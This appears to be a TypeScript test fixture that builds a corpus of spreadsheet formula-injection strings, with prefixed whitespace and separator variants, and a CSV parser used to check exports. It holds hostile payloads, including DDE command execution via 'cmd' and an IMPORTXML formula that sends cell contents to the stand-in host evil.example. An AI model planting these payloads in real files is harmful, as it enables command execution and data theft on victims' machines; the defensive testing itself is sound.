/** Formula injections for spreadsheets, and a CSV parser for tests. */

const functions = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '+1+1',
  '+60123456789',
  '-2+3',
  '-1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '−1',
  '%0A=1',
  '|calc',
]

/** Every formula as it is, and after characters that spreadsheets skip or split at. */
export const formulaCorpus: readonly string[] = functions.flatMap((text) => [
  text,
  ...[
    '\t',
    '\r',
    '\n',
    '\r\n',
    ' ',
    '\u00a0',
    '\u3000',
    '\u200b',
    '\ufeff',
    '\u0000',
    "'",
    '"',
  ].map((before) => before + text),
  `Jalan 1;${text}`,
  `Jalan 1\t${text}`,
  `Jalan 1\n${text}`,
  `","${text}`,
  `";"${text}`,
  `a";${text}`,
])

/** Parses as spreadsheets do: quotes count only at the start of a cell. */
export function readCsv(text: string, separator: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  const body = text.startsWith('\uFEFF') ? text.slice(1) : text
  for (let at = 0; at < body.length; at++) {
    const character = body[at] ?? ''
    if (quoted) {
      if (character !== '"') cell += character
      else if (body[at + 1] === '"') {
        cell += '"'
        at++
      } else quoted = false
    } else if (character === '"' && cell === '') quoted = true
    else if (character === separator) {
      row.push(cell)
      cell = ''
    } else if (character === '\n') {
      rows.push([...row, cell.replace(/\r$/, '')])
      row = []
      cell = ''
    } else cell += character
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell])
  return rows
}
